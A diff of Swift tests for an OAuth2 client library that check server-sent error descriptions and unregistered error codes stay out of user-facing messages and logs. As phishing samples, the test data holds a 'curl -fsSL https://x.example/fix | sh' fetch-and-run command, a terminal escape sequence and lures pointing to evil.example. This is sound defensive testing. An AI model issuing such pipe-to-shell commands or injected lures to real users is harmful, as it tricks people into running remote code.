@@ -14,13 +14,13 @@ import Testing
 @Suite struct ServerErrorTextTests {
     static let phishing = "Your session is broken. Run: curl -fsSL https://x.example/fix | sh"
 
-    @Test func theDescriptionOfARefusalIsNotShownButLoggedAtDebug() async throws {
+    @Test func theDescriptionOfARefusalIsNeitherShownNorLogged() async throws {
         try await MockServer.withTransport { server, transport in
             let body = try JSONSerialization.data(withJSONObject: ["error": "invalid_client", "error_description": "\u{1B}[2K" + Self.phishing])
             server.stub(.post, "/token", .json(raw: body, status: .unauthorized))
             let logs = InMemoryLogHandler()
             var logger = Logger(label: "oauth") { _ in logs }
-            logger.logLevel = .debug
+            logger.logLevel = .trace
             let storage = try await OAuth2AuthenticationStorage(
                 settings: OAuth2Settings(clientID: "c", tokenEndpoint: server.baseURL.appendingPathComponent("token")),
                 transport: transport, clientSecret: InMemorySecrets(["c-client-secret": "free-text-secret-3b"]), logger: logger
@@ -30,12 +30,73 @@ import Testing
             #expect(!text.contains("curl") && !text.contains("session"), "\(text)")
             #expect(error?.serverError == "invalid_client")
             #expect(text.contains("invalid_client") && text.contains("client authentication failed"), "\(text)")
-            // For whoever debugs the server: as metadata, without the escape.
-            let logged = logs.entries.compactMap { $0.metadata["oauth2.error_description"].map { "\($0)" } }
-            #expect(logged.count == 1)
-            #expect(logged.first?.contains("curl -fsSL") == true)
-            #expect(logged.first?.contains("\u{1B}") == false)
+            // Not even at trace level: `-v` would put it on the terminal.
+            let logged = Self.logged(logs)
+            #expect(!logged.contains("curl") && !logged.contains("session"), "\(logged)")
+            #expect(logged.contains("invalid_client"))
         }
+    }
+
+    /// Every log line `logs` holds, message and metadata.
+    static func logged(_ logs: InMemoryLogHandler) -> String {
+        logs.entries.map { "\($0.message) \($0.metadata)" }.joined(separator: "\n")
+    }
+
+    /// A device login polls: each `authorization_pending` and `slow_down` answer's description
+    /// would be logged right under the prompt a person reads.
+    @Test func aDeviceLoginsPollsLogNoDescription() async throws {
+        try await MockServer.withTransport { server, transport in
+            server.stub(.post, "/device", .json(raw: try DeviceAddressTests.answer(uri: "https://auth.example/device")))
+            let pending = try JSONSerialization.data(withJSONObject: [
+                "error": "authorization_pending", "error_description": "Enter the code at https://evil.example instead",
+            ])
+            let odd = try JSONSerialization.data(withJSONObject: ["error": "Session-locked.Run-curl.evil.example", "error_description": "see evil"])
+            server.stub(.post, "/token", .json(raw: pending, status: .badRequest), .json(raw: odd, status: .badRequest))
+            let logs = InMemoryLogHandler()
+            var logger = Logger(label: "oauth") { _ in logs }
+            logger.logLevel = .trace
+            var settings = OAuth2Settings(
+                clientID: "cli", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
+            )
+            settings.deviceAuthorizationEndpoint = server.baseURL.appendingPathComponent("device")
+            let storage = try await OAuth2AuthenticationStorage(
+                settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets(), logger: logger)
+            let error = await #expect(throws: OAuth2Error.self) { try await storage.logIn(service: "s") { _ in } }
+            let text = error.map { "\($0)" } ?? ""
+            #expect(text.contains("another error code") && !text.contains("evil") && !text.contains("Session"), "\(text)")
+            #expect(server.requests.filter { $0.path == "/token" }.count == 2)
+            let logged = Self.logged(logs)
+            #expect(!logged.contains("evil") && !logged.contains("curl") && !logged.contains("Session"), "\(logged)")
+            #expect(logged.contains("authorization_pending"), "\(logged)")
+        }
+    }
+
+    @Test(arguments: ["slow_down", "authorization_pending", "invalid_grant", "Session-locked.Run-curl.evil.example"])
+    func aRefusalLogsAKnownCodeOnlyNeverTheDescription(_ code: String) throws {
+        let logs = InMemoryLogHandler()
+        var logger = Logger(label: "oauth") { _ in logs }
+        logger.logLevel = .trace
+        let body = try JSONSerialization.data(withJSONObject: ["error": code, "error_description": "Enter the code at https://evil.example instead"])
+        _ = AuthorizationServer.refusal((.badRequest, body, []), what: "the device_code request", logger: logger)
+        let logged = Self.logged(logs)
+        #expect(!logged.contains("evil.example/") && !logged.contains("Enter the code"), "\(logged)")
+        #expect(logged.contains(code) == ErrorResponse.registeredCodes.contains(code), "\(logged)")
+    }
+
+    /// A code of a code's characters but of the server's choosing is free text all the same: only
+    /// the codes the RFCs define are shown.
+    @Test(arguments: ["Session-locked.Run-curl.evil.example.fix.sh-now", "invalid_grant_see_evil.example", "INVALID_GRANT", "custom_error"])
+    func anUnregisteredCodeIsAnotherErrorCode(_ code: String) throws {
+        let body = try JSONSerialization.data(withJSONObject: ["error": code])
+        let error = AuthorizationServer.refusal((.badRequest, body, []), what: "the refresh_token request")
+        let text = "\(error)"
+        #expect(error.serverError == nil)
+        #expect(error.kind == .refused)
+        #expect(!text.contains(code), "\(text)")
+        #expect(text.contains("another error code"), "\(text)")
+        // However it reaches the error (a redirect's query, a device poll).
+        let direct = OAuth2Error(.refused, "the browser login was not approved", serverError: code)
+        #expect(direct.serverError == nil && !"\(direct)".contains(code) && "\(direct)".contains("another error code"))
     }
 
     @Test(arguments: [
@@ -49,18 +110,18 @@ import Testing
         let text = "\(error)"
         #expect(error.serverError == nil)
         #expect(!text.contains(code), "\(text)")
-        #expect(text.contains("400"))
+        #expect(text.contains("another error code"), "\(text)")
     }
 
     /// The browser login's redirect carries the server's `error` too: the same rule.
-    @Test func anErrorOnTheRedirectThatIsNotACodeIsNotShown() async throws {
+    @Test(arguments: ["Run:curl_-fsSL_https://x.example/fix|sh", "Session-locked.Run-curl.evil.example.fix.sh-now"])
+    func anErrorOnTheRedirectThatIsNotACodeIsNotShown(_ code: String) async throws {
         try await MockServer.withTransport { server, transport in
             var settings = OAuth2Settings(
                 clientID: "native", tokenEndpoint: server.baseURL.appendingPathComponent("token"), clientAuthentication: .none, grant: .refreshToken
             )
             settings.authorizationEndpoint = server.baseURL.appendingPathComponent("authorize")
             let storage = try await OAuth2AuthenticationStorage(settings: settings, transport: transport, refreshTokens: InMemoryWritableSecrets())
-            let code = "Run:curl_-fsSL_https://x.example/fix|sh"
             let error = await #expect(throws: OAuth2Error.self) {
                 try await storage.logInWithBrowser(service: "s", timeout: .seconds(30)) { url in
                     let items = URLComponents(url: url, resolvingAgainstBaseURL: false)?.queryItems ?? []
@@ -72,7 +133,8 @@ import Testing
                 }
             }
             #expect(error?.serverError == nil)
-            #expect(!(error.map { "\($0)" } ?? "").contains("curl"))
+            let text = error.map { "\($0)" } ?? ""
+            #expect(!text.contains("curl") && !text.contains("evil") && text.contains("another error code"), "\(text)")
         }
     }
 
